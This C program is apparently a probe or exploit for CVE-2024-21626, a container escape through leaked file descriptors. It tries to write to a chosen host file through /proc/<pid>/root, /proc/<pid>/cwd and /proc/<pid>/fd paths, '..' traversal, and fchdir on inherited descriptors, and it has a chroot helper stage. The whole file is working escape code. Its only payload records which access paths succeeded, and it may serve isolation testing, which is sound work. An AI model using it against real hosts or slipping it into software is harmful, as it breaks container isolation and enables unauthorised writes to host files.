/*
 * leaked: CVE-2024-21626: reaches a file of the host by a descriptor of its directory that was left open,
 * by a working directory that was left outside, or by those of another process. Into the file it writes
 * by which ways it came.
 *
 *   leaked FILE [PID...]            tries its own, and those of these processes
 *   leaked chroot DIR WORDS...      a weak stage: makes DIR the root and stays where it is, outside
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

enum { MOST = 64 }; /* descriptors that are tried */

static int reached;

static void try(const char *way)
{
    int file = open(way, O_WRONLY | O_APPEND | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    if (file < 0)
        return;
    if (dprintf(file, "%s\n", way) > 0)
        reached = 1;
    close(file);
}

/* The file from a descriptor or a working directory, straight and over the directory above. */
static void try_from(const char *start, const char *directory, const char *name)
{
    char way[4096];
    snprintf(way, sizeof way, "%s/%s", start, name);
    try(way);
    snprintf(way, sizeof way, "%s/../%s/%s", start, directory, name);
    try(way);
}

static void try_process(const char *process, const char *file, const char *directory, const char *name)
{
    char way[4096];
    snprintf(way, sizeof way, "/proc/%s/root%s", process, file);
    try(way);
    snprintf(way, sizeof way, "/proc/%s/cwd", process);
    try_from(way, directory, name);
    for (int fd = 0; fd < MOST; fd++) {
        snprintf(way, sizeof way, "/proc/%s/fd/%d", process, fd);
        try_from(way, directory, name);
    }
}

int main(int argc, char **argv)
{
    char copy[4096], way[64];
    if (argc > 3 && strcmp(argv[1], "chroot") == 0)
        return chroot(argv[2]) < 0 || execv(argv[3], argv + 3) < 0 ? 2 : 0;
    if (argc < 2)
        return 2;
    snprintf(copy, sizeof copy, "%s", argv[1]);
    char *slash = strrchr(copy, '/'), *above;
    if (!slash)
        return 2;
    *slash = '\0';
    above = strrchr(copy, '/');
    if (!above)
        return 2;
    const char *directory = above + 1, *name = slash + 1;

    try_from(".", directory, name);
    try_process("self", argv[1], directory, name);
    for (char **process = argv + 2; *process; process++)
        try_process(*process, argv[1], directory, name);
    for (int fd = 3; fd < MOST; fd++)
        if (fchdir(fd) == 0) {
            snprintf(way, sizeof way, "../%s", directory);
            try_from(way, directory, name);
        }
    return !reached;
}
